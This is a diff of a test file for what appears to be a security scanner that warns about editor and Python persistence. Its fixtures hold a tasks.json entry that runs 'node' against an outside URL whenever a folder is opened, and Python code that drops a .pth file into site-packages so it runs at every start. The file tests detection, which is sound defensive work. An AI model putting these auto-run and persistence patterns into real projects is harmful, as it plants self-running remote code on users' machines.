@@ -48,7 +48,7 @@ describe('what is warned of', () => {
 
   it('a task that starts with the editor, and a file that each start of Python runs', () => {
     const task = '{"command": "node https://a-x.net/t", "runOptions": {"runOn": "folderOpen"}}'
-    expect(told('tasks.json', task)).toEqual(['shell-persistence'])
+    expect(told('tasks.json', task)).toContain('shell-persistence')
     const code = 'import site\nfor d in site.getsitepackages():\n  (p / "zz.pth").write_text("import a")\n'
     expect(told('a.py', code)).toEqual(['shell-persistence'])
   })
